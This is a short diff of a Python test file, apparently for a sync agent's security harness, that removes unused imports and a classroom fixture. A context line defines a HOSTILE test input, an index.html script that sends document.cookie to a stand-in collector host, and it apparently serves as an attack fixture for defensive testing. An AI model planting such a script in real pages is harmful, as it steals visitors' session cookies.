@@ -3,12 +3,9 @@
 from __future__ import annotations
 
 import asyncio
-from collections.abc import AsyncIterator
 from contextlib import AsyncExitStack
-from pathlib import Path
 
 import pytest
-import pytest_asyncio
 
 from protocol.chunking import chunk_list, cut, stream_id
 from protocol.errors import RelaisError
@@ -20,7 +17,7 @@ from sync_agent.watch_brake import Change, is_burst, is_scrambled
 from tests.harness.attack import attack
 from tests.harness.browser import chromium, visitor
 from tests.harness.caller import in_sealed_form
-from tests.harness.classroom import Classroom, classroom
+from tests.harness.classroom import Classroom
 from tests.harness.entries import SPACE
 from tests.harness.portal import portal
 
@@ -32,12 +29,6 @@ document.getElementById("b").onclick = () => {
 </script>"""
 
 HOSTILE = {"index.html": b"<script>fetch('https://collect.example/?' + document.cookie)</script>"}
-
-
-@pytest_asyncio.fixture
-async def room(tmp_path: Path) -> AsyncIterator[Classroom]:
-    async with classroom(tmp_path) as made:
-        yield made
 
 
 @attack(
